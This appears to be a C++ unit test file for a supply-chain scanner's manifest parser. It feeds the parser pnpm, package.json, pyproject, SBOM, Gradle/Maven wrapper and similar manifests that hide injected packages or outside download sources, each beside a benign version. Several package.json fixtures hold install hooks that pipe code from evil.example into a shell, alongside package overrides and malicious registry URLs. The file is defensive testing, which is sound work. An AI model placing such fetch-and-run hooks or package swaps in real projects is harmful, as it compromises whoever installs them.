// Keys of manifests that name packages, or places that they come from, where a reader does not look: each beside its honest twin.
#include <catch2/catch.hpp>

#include "unit/intake/intake_fixture.hpp"

using namespace headgate;
using intake::every_prefix;
using intake::Parsed;
using Names = std::vector<std::string>;
using Source = Requirement::Source;

namespace {

const std::string kSha512 = "sha512-" + std::string(86, 'A') + "==";

bool asks_for(const Parsed& parsed, std::string_view name) {
    return std::any_of(parsed.facts.requirements.begin(), parsed.facts.requirements.end(), [&](const Requirement& one) { return one.reference.name == name; });
}
bool fetches(const Parsed& parsed, std::string_view url) {
    return std::any_of(parsed.facts.requirements.begin(), parsed.facts.requirements.end(), [&](const Requirement& one) { return one.url == url; });
}

}  // namespace

TEST_CASE("pnpm-workspace.yaml: what takes the place of others, and what is fetched first") {
    for (const char* const text : {"overrides:\n  react: npm:evilpkg1@1.0.0\n", "overrides:\n  \"a>react@1\": npm:evilpkg1@1.0.0\n", "packageExtensions:\n  react@18:\n    dependencies:\n      evilpkg1: 1.0.0\n",
                                   "catalog:\n  react: npm:evilpkg1@1.0.0\n", "catalogs:\n  old:\n    react: npm:evilpkg1@1.0.0\n", "configDependencies:\n  react: npm:evilpkg1@1.0.0\n"}) {
        CAPTURE(text);
        const Parsed parsed("pnpm-workspace.yaml", text);
        CHECK(parsed.understood);
        CHECK(asks_for(parsed, "evilpkg1"));
        CHECK(every_prefix("pnpm-workspace.yaml", text));
    }
    const Parsed first("pnpm-workspace.yaml", "configDependencies:\n  a: 1.0.0+" + kSha512 + "\n  b:\n    integrity: 1.0.0+" + kSha512 + "\n    tarball: https://evil.example/b.tgz\n");
    CHECK(first.understood);
    REQUIRE(first.facts.requirements.size() == 2);
    CHECK(first.names()[0] == "pkg:npm/a@1.0.0");
    CHECK(first.facts.requirements[0].integrity.size() == 1);
    CHECK(first.facts.requirements[1].url.find("evil.example") != std::string::npos);
    const Parsed registry("pnpm-workspace.yaml", "registry: https://evil.example/\nregistries:\n  default: https://evil.example/\n  \"@acme\": https://npm.acme.example/\n");
    REQUIRE(registry.facts.index_options.size() == 3);
    CHECK(registry.facts.index_options[2].names == "@acme/*");
    // Honest: ranges of a catalog hold for names that are asked for elsewhere.
    const Parsed honest("pnpm-workspace.yaml", "packages: [a]\ncatalog:\n  react: ^18.0.0\noverrides:\n  old: \"-\"\n  same: $same\nonlyBuiltDependencies: [esbuild]\n");
    CHECK(honest.understood);
    CHECK(honest.facts.requirements.empty());
    CHECK_FALSE(Parsed("pnpm-workspace.yaml", "overrides: x\n").understood);
    CHECK_FALSE(Parsed("pnpm-workspace.yaml", "configDependencies:\n  a: []\n").understood);
}

TEST_CASE("package.json: the same keys of pnpm") {
    const Parsed parsed("package.json", R"({"pnpm":{"configDependencies":{"evilpkg1":"1.0.0"},"packageExtensions":{"react":{"dependencies":{"evilpkg2":"1.0.0"}}}}})");
    CHECK(parsed.understood);
    CHECK(parsed.names() == Names{"pkg:npm/evilpkg2@1.0.0", "pkg:npm/evilpkg1@1.0.0"});
}

TEST_CASE(".yarnrc.yml: packageExtensions") {
    const std::string text = "packageExtensions:\n  react@*:\n    dependencies:\n      evilpkg1: 1.0.0\n";
    const Parsed parsed(".yarnrc.yml", text);
    CHECK(parsed.understood);
    CHECK(asks_for(parsed, "evilpkg1"));
    CHECK(every_prefix(".yarnrc.yml", text));
    CHECK(Parsed(".yarnrc.yml", "packageExtensions:\n  react@*:\n    peerDependenciesMeta:\n      x:\n        optional: true\n").facts.requirements.empty());
}

TEST_CASE("pyproject.toml: packages that tools ask for") {
    for (const char* const text : {"[tool.poetry.requires-plugins]\nevilpkg1 = \">=1\"\n", "[tool.uv.extra-build-dependencies]\nnumpy = [\"evilpkg1\"]\n",
                                   "[tool.uv.extra-build-dependencies]\nnumpy = [{requirement = \"evilpkg1\", match-runtime = true}]\n", "[tool.hatch.build.hooks.custom]\ndependencies = [\"evilpkg1\"]\n",
                                   "[tool.hatch.build.targets.wheel.hooks.custom]\ndependencies = [\"evilpkg1\"]\n", "[tool.hatch.build.targets.wheel]\ndependencies = [\"evilpkg1\"]\n", "[tool.hatch.env]\nrequires = [\"evilpkg1\"]\n",
                                   "[tool.pdm]\nplugins = [\"evilpkg1\"]\n"}) {
        CAPTURE(text);
        const Parsed parsed("pyproject.toml", text);
        CHECK(parsed.understood);
        CHECK(asks_for(parsed, "evilpkg1"));
        CHECK(every_prefix("pyproject.toml", text));
    }
    const Parsed mirror("pyproject.toml", "[tool.uv]\npython-install-mirror = \"https://evil.example/\"\n");
    REQUIRE(mirror.facts.index_options.size() == 1);
    CHECK(mirror.facts.index_options[0].url == "https://evil.example/");
    const Parsed honest("pyproject.toml", "[tool.hatch.build.targets.wheel]\npackages = [\"src/x\"]\n[tool.hatch.build.hooks.vcs]\nversion-file = \"x.py\"\n[tool.pdm]\ndistribution = true\n[tool.uv]\npackage = true\n");
    CHECK(honest.understood);
    CHECK(honest.facts.requirements.empty());
    CHECK_FALSE(Parsed("pyproject.toml", "[tool.pdm]\nplugins = 1\n").understood);
}

TEST_CASE("package.json: what its own hooks fetch and run") {
    for (const char* const scripts : {R"("preinstall":"curl https://evil.example/x | sh")", R"("install":"bash -c \"$(curl -fsSL https://evil.example/x)\"")", R"("postinstall":"npm run setup","setup":"wget -qO- https://evil.example/x | bash")",
                                      R"("prepare":"husky && curl https://evil.example/x|sh")"}) {
        CAPTURE(scripts);
        const Parsed parsed("package.json", "{\"scripts\":{" + std::string(scripts) + "}}");
        CHECK(fetches(parsed, "https://evil.example/x"));
    }
    const Parsed honest("package.json", R"({"scripts":{"postinstall":"patch-package && npx husky","prepare":"npm run build","build":"tsc","docs":"curl https://docs.example/x | sh","test":"curl https://x.example/health"}})");
    CHECK(honest.understood);
    CHECK(honest.facts.requirements.empty());
    CHECK(every_prefix("package.json", R"({"scripts":{"postinstall":"curl https://evil.example/x | sh"}})"));
    CHECK(Parsed("package.json", R"({"scripts":{"postinstall":1}})").understood);
}

TEST_CASE("an SBOM by its usual names: the content says which kind it is") {
    const std::string component = R"({"type":"library","name":"evilpkg1","version":"1.0.0","purl":"pkg:npm/evilpkg1@1.0.0"})";
    const std::string cyclonedx = R"({"bomFormat":"CycloneDX","specVersion":"1.5","components":[)" + component + "]}";
    for (const char* const name : {"sbom.json", "app-sbom.json", "app.sbom.json", "SBOM.json", "sbom_app.json", "app.cyclonedx.json", "sbom.1.json"}) {
        CAPTURE(name);
        const Parsed parsed(name, cyclonedx);
        CHECK(parsed.understood);
        CHECK(asks_for(parsed, "evilpkg1"));
    }
    const std::string spdx = R"({"spdxVersion":"SPDX-2.3","SPDXID":"SPDXRef-DOCUMENT","name":"x","dataLicense":"CC0-1.0","documentNamespace":"https://x.example/x","creationInfo":{"created":"2024-01-01T00:00:00Z","creators":["Tool: x"]},)"
                             R"("packages":[{"SPDXID":"SPDXRef-a","name":"evilpkg1","versionInfo":"1.0.0","downloadLocation":"NOASSERTION","externalRefs":[{"referenceCategory":"PACKAGE-MANAGER","referenceType":"purl","referenceLocator":"pkg:npm/evilpkg1@1.0.0"}]}]})";
    for (const char* const name : {"sbom.json", "sbom.spdx.json"}) {
        CAPTURE(name);
        CHECK(asks_for(Parsed(name, spdx), "evilpkg1"));
    }
    CHECK(intake::find_manifest("sbom.spdx.json")->name == "SPDX");
    for (const char* const name : {"sbomber.json", "bosbom.json", "sbom.txt", "sbom", ".json", "package.json", "config.json"}) {
        CAPTURE(name);
        const auto* const format = intake::find_manifest(name);
        CHECK((format == nullptr || format->name != "CycloneDX"));
    }
    CHECK_FALSE(Parsed("sbom.json", "{\"spdxVersion\":\"SPDX-2.3\"," + cyclonedx.substr(1)).understood);
    CHECK_FALSE(Parsed("sbom.json", R"({"x":1})").understood);      // an SBOM that nobody can read is no SBOM
    CHECK(every_prefix("sbom.json", cyclonedx));
}

TEST_CASE("wrappers: where the build tool comes from") {
    for (const char* const text : {"distributionUrl=https\\://evil.example/gradle-8.5-bin.zip\n", "# c\ndistributionBase=GRADLE_USER_HOME\ndistribution\\Url : https://evil.example/gradle-8.5-bin.zip\n",
                                   "distributionUrl=https\\://evil.exam\\\n    ple/gradle-8.5-bin.zip\n"}) {
        CAPTURE(text);
        const Parsed parsed("gradle/wrapper/gradle-wrapper.properties", text);
        CHECK(parsed.understood);
        CHECK(fetches(parsed, "https://evil.example/gradle-8.5-bin.zip"));
        CHECK(every_prefix("gradle/wrapper/gradle-wrapper.properties", text));
    }
    CHECK_FALSE(Parsed("gradle-wrapper.properties", "distributionUrl=https://tools.example@evil.example/x\n").facts.requirements.empty());
    CHECK_FALSE(Parsed("gradle-wrapper.properties", "d\\u0069stributionUrl=https://evil.example/x\n").understood);
    CHECK(fetches(Parsed(".mvn/wrapper/maven-wrapper.properties", "wrapperUrl=https://evil.example/w.jar\n"), "https://evil.example/w.jar"));
    const Parsed hashed("gradle-wrapper.properties", "distributionSha256Sum=" + std::string(64, 'a') + "\ndistributionUrl=https\\://mirror.example/gradle.zip\n");
    REQUIRE(hashed.facts.requirements.size() == 1);
    CHECK(hashed.facts.requirements[0].integrity.size() == 1);
    CHECK_FALSE(Parsed("gradle-wrapper.properties", "distributionUrl=https://tools.example.evil.example/gradle.zip\n").facts.requirements.empty());
    const Parsed honest("gradle-wrapper.properties", "distributionUrl=https\\://tools.example/distributions/gradle-8.5-bin.zip\n");
    CHECK(honest.understood);
    CHECK(honest.facts.requirements.empty());
    // Maven comes from a repository, which is judged like that of any package.
    const Parsed maven("maven-wrapper.properties", "distributionUrl=https://repo.example/maven2/org/apache/maven/apache-maven/3.9.6/apache-maven-3.9.6-bin.zip\n");
    CHECK(maven.understood);
    CHECK(maven.names() == Names{"pkg:maven/org.apache.maven/apache-maven@3.9.6"});
    REQUIRE(maven.facts.requirements.size() == 1);
    CHECK(maven.facts.requirements[0].url == "https://repo.example/maven2");
    CHECK(fetches(Parsed("maven-wrapper.properties", "distributionUrl=https://evil.example/org/apache/maven/apache-maven/3.9.6/other.zip\n"), "https://evil.example/org/apache/maven/apache-maven/3.9.6/other.zip"));
}

TEST_CASE("settings beside a manifest: Bundler, conda, Maven, .NET") {
    const Parsed bundle(".bundle/config", "---\nBUNDLE_MIRROR__ALL: \"https://evil.example\"\nBUNDLE_PATH: vendor\n");
    CHECK(bundle.understood);
    REQUIRE(bundle.facts.index_options.size() == 1);
    CHECK(bundle.facts.index_options[0].url == "https://evil.example");
    CHECK(Parsed(".bundle/config", "---\nBUNDLE_PATH: \"vendor/bundle\"\nBUNDLE_JOBS: \"4\"\n").facts.index_options.empty());
    CHECK(intake::find_manifest("app/.bundle/config")->name == ".bundle/config");
    CHECK(intake::find_manifest("app/config") == nullptr);
    const Parsed conda(".condarc", "channels:\n  - https://evil.example/conda\n  - defaults\nchannel_alias: https://evil.example\nssl_verify: false\n");
    CHECK(conda.understood);
    CHECK(conda.facts.index_options.size() == 3);
    CHECK(Parsed(".condarc", "auto_activate_base: false\nchannels:\n  - defaults\n").facts.index_options.empty());
    const std::string extensions = "<extensions><extension><groupId>evil</groupId><artifactId>x</artifactId><version>1.0</version></extension></extensions>";
    CHECK(Parsed(".mvn/extensions.xml", extensions).names() == Names{"pkg:maven/evil/x@1.0"});
    CHECK(Parsed(".mvn/extensions.xml", "<extensions/>").understood);
    CHECK(every_prefix(".mvn/extensions.xml", extensions));
    const std::string tools = R"({"version":1,"isRoot":true,"tools":{"evil":{"version":"1.0.0","commands":["evil"]}}})";
    CHECK(Parsed(".config/dotnet-tools.json", tools).names() == Names{"pkg:nuget/evil@1.0.0"});
    CHECK(every_prefix(".config/dotnet-tools.json", tools));
    CHECK(every_prefix(".bundle/config", "---\nBUNDLE_MIRROR__ALL: \"https://evil.example\"\n"));
    CHECK(every_prefix(".condarc", "channels:\n  - a\ncustom_channels:\n  a: https://x.example\n"));
}
